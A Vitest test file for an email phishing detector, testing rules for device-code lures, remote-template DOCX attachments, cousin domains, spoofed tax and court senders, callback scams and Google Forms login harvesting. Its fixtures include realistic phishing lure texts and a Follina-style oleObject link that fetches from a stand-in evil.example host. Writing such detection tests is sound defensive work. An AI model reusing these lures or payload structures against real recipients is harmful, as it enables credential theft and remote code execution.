/**
 * From the thirty-sixth round of hand-made mail (measured unread, then read): device-code phishing
 * ("go to microsoft.com/devicelogin and enter FQK7ZM2RB"), a tender document that loads its template
 * from the web, and a cousin domain that writes the reader's own words in another order. Each with
 * the legitimate look-alike that must stay clean.
 */
import { describe, expect, it } from 'vitest';
import { resolveConfig } from '../../src/config/index.js';
import { analyzeEmail } from '../../src/email/index.js';
import { loadedExternals } from '../../src/email/office-remote.js';
import { imitatesDomain } from '../../src/url/index.js';
import { eml, type EmlOptions } from '../helpers/eml.js';
import { expectAbsent, expectFires } from '../helpers/verdict.js';
import { documentXml, makeZip } from '../helpers/zip.js';

const config = resolveConfig({});
const scan = (o: EmlOptions) => analyzeEmail(eml({ subject: 'Hello', ...o }), { config, scorer: null });

describe('email.content.device_code_phish', () => {
  const ID = 'email.content.device_code_phish';
  it('fires on the device sign-in page with a code to enter, behind Safe Links too, and flags on its own', async () => {
    const safe =
      'https://aus01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fmicrosoft.com%2Fdevicelogin&data=05%7C02&reserved=0';
    const v = await scan({
      from: 'Grant Holloway <grant@summitridge.example>',
      to: 'mia@koala.example',
      subject: 'Board pack – secure review link (code valid 15 min)',
      html: `<p>Access is through Microsoft's device verification page.</p><ol><li>Go to <a href="${safe}">the verification page</a></li><li>Enter the code FQK7ZM2RB</li><li>Sign in with your account</li></ol>`,
    });
    expectFires(v, ID);
    expect(v.verdict).not.toBe('clean');
    for (const text of [
      '1. https://microsoft.com/devicelogin 접속\n2. 코드 입력: B7TQ4XMN2\n3. 회사 계정으로 로그인',
      'Open github.com/login/device and type WDJB-MJHT to link the build agent.',
    ])
      expectFires(await scan({ from: 'Partner <p@partner.example>', to: 'a@customer.example', text }), ID);
  });
  it("stays silent for instructions without a code, a code without the page, and a newsletter's example", async () => {
    const noCode = await scan({
      from: 'IT <it@contoso.example>',
      to: 'sam@contoso.example',
      text: 'To sign in on the meeting-room TV, open microsoft.com/devicelogin on your phone and type the code the TV shows.',
    });
    expectAbsent(noCode, ID);
    const noPage = await scan({
      from: 'Shop <orders@shop.example>',
      to: 'a@customer.example',
      text: 'Your order KX7Q2M9TR has shipped. Track it in your account.',
    });
    expectAbsent(noPage, ID);
    const news = await scan({
      from: 'Threat Brief <news@threatbrief.example>',
      to: 'a@customer.example',
      headers: {
        'List-Unsubscribe': '<https://threatbrief.example/u>',
        'List-Id': '<brief.threatbrief.example>',
      },
      text: 'This week: device-code phishing. The lure says "go to microsoft.com/devicelogin and enter ABCD1234E".',
    });
    expectAbsent(news, ID);
  });
});

describe('email.attachment.remote_template', () => {
  const ID = 'email.attachment.remote_template';
  const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
  const rels = (type: string, target: string) =>
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
  const withRels = (part: string, xml: string, from = 'Tender office <tender@procurement-portal.example>') =>
    analyzeEmail(
      eml({
        from,
        to: 'o.koval@dniprosoft.example',
        subject: 'Invitation to tender',
        text: 'The tender documentation is attached.',
        attachments: [
          {
            filename: 'tender.docx',
            contentType: DOCX,
            content: makeZip([
              { name: 'word/document.xml', data: documentXml([['Tender documentation']]) },
              { name: part, data: xml },
            ]),
          },
        ],
      }),
      { config, scorer: null },
    );
  it('fires on a template fetched from the web when the document opens, and flags on its own', async () => {
    const v = await withRels(
      'word/_rels/settings.xml.rels',
      rels('attachedTemplate', 'https://docs-templates.procurement-portal.example/tpl/normal.dotm'),
    );
    expectFires(v, ID);
    expect(v.verdict).not.toBe('clean');
  });
  it("is critical for Follina's ms-msdt object and fires on another machine's share", async () => {
    const follina = await withRels(
      'word/_rels/document.xml.rels',
      rels('oleObject', 'mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html'),
    );
    expect(follina.signals.find((s) => s.id === ID)?.severity).toBe('critical');
    expectFires(
      await withRels(
        'word/_rels/settings.xml.rels',
        rels('attachedTemplate', '\\\\203.0.113.7\\share\\t.dotm'),
      ),
      ID,
    );
  });
  it('stays silent for a local template, a hyperlink, SharePoint, and the own server between colleagues', async () => {
    expectAbsent(
      await withRels(
        'word/_rels/settings.xml.rels',
        rels('attachedTemplate', 'file:///C:/Users/olena/AppData/Roaming/Microsoft/Templates/Normal.dotm'),
      ),
      ID,
    );
    expectAbsent(
      await withRels('word/_rels/document.xml.rels', rels('hyperlink', 'https://prozorro.example/tender/1')),
      ID,
    );
    expectAbsent(
      await withRels(
        'word/_rels/settings.xml.rels',
        rels('attachedTemplate', 'https://contoso.sharepoint.com/sites/hr/Templates/letter.dotx'),
      ),
      ID,
    );
    const colleague = await analyzeEmail(
      eml({
        from: 'HR <hr@contoso.example>',
        to: 'sam@contoso.example',
        subject: 'Letter',
        text: 'Attached.',
        attachments: [
          {
            filename: 'letter.docx',
            contentType: DOCX,
            content: makeZip([
              { name: 'word/document.xml', data: documentXml([['Letter']]) },
              {
                name: 'word/_rels/settings.xml.rels',
                data: rels('attachedTemplate', 'https://templates.contoso.example/letter.dotx'),
              },
            ]),
          },
        ],
      }),
      { config, scorer: null },
    );
    expectAbsent(colleague, ID);
  });
  it('reads only external relationships Word loads on opening', () => {
    expect(loadedExternals(rels('attachedTemplate', 'https://x.example/t.dotm'))).toEqual([
      { type: 'attachedTemplate', target: 'https://x.example/t.dotm' },
    ]);
    expect(loadedExternals(rels('hyperlink', 'https://x.example/'))).toEqual([]);
    expect(loadedExternals('<not xml')).toEqual([]);
  });
});

describe("the reader's own words in another order", () => {
  it('is a strong imitation under the same suffix, weak under another, and nothing for other words', () => {
    expect(imitatesDomain('lindenveld-gemeente.nl', 'gemeente-lindenveld.nl')?.strength).toBe('strong');
    expect(imitatesDomain('lindenveld-gemeente.com', 'gemeente-lindenveld.nl')?.strength).toBe('weak');
    expect(imitatesDomain('lindenveld-water.nl', 'gemeente-lindenveld.nl')).toBeNull();
    expect(imitatesDomain('gemeente-lindenveld.nl', 'gemeente-lindenveld.nl')).toBeNull();
  });
});

describe('tax offices and courts of more countries, by the names their lures borrow', () => {
  it('flags myAADE, LHDN MyTax and UYAP e-Tebligat from other domains, not from their own', async () => {
    for (const [from, own] of [
      ['myAADE – Ενημέρωση <enimerosi@aade-myportal.example>', 'myAADE <noreply@aade.gr>'],
      ['LHDNM – MyTax <notifikasi@mytax-hasil.example>', 'LHDNM – MyTax <noreply@hasil.gov.my>'],
      [
        'UYAP e-Tebligat Bilgilendirme <bildirim@uyap-etebligat.example>',
        'UYAP e-Tebligat <bildirim@uyap.gov.tr>',
      ],
    ] as const) {
      const fake = await scan({ from, to: 'a@customer.example', text: 'Bitte bestätigen Sie Ihre Daten.' });
      expectFires(fake, 'email.sender.brand_display_name');
      const real = await scan({ from: own, to: 'a@customer.example', text: 'Your notice is available.' });
      expectAbsent(real, 'email.sender.brand_display_name');
    }
  });
});

describe('toll-free numbers without a leading 0 (Italy, Portugal, Spain)', () => {
  it('reads "800 914 726" as the number of an Italian callback lure', async () => {
    const v = await scan({
      from: 'Centro Licenze <fatturazione@centrolicenze.example>',
      to: 'g.ferraro@studio.example',
      subject: 'Conferma rinnovo automatico – € 489,99',
      text: 'Il Suo abbonamento è stato rinnovato. Importo totale: € 489,99. Se non ha autorizzato questo rinnovo, contatti il servizio clienti entro 48 ore al numero verde 800 914 726.',
    });
    expectFires(v, 'email.content.callback');
  });
  it("stays silent for a real invoice's help line without the dispute hook", async () => {
    const v = await scan({
      from: 'Enel Energia <fatture@enel.it>',
      to: 'g.ferraro@studio.example',
      subject: 'La tua bolletta di marzo',
      text: "La bolletta di marzo, importo € 84,20, è disponibile nell'area clienti. Per informazioni chiama il numero verde 800 900 860.",
    });
    expectAbsent(v, 'email.content.callback');
  });
});

describe('login data named as such, whatever the article', () => {
  it('reads "confirme os dados de login no formulário" beside a Google Form as a sign-in on a form builder', async () => {
    const v = await scan({
      from: 'Fernanda Moraes <fernanda@moraescontabil.example>',
      to: 'carlos@vitoriaagro.example',
      subject: 'Documentos pendentes – fechamento fiscal',
      text: 'Para liberarmos o seu acesso, preciso que você confirme os dados de login no formulário abaixo: https://docs.google.com/forms/d/e/1FAIpQLSd7kR2mXq9/viewform',
    });
    expectFires(v, 'email.link.sign_in_on_free_host');
    expect(v.verdict).not.toBe('clean');
  });
  it('stays silent for a form that asks for the order data, not the login', async () => {
    const v = await scan({
      from: 'Fernanda Moraes <fernanda@moraescontabil.example>',
      to: 'carlos@vitoriaagro.example',
      subject: 'Pesquisa de satisfação',
      text: 'Por favor, confirme os dados do pedido no formulário abaixo: https://docs.google.com/forms/d/e/1FAIpQLSd7kR2mXq9/viewform',
    });
    expectAbsent(v, 'email.link.sign_in_on_free_host');
  });
});
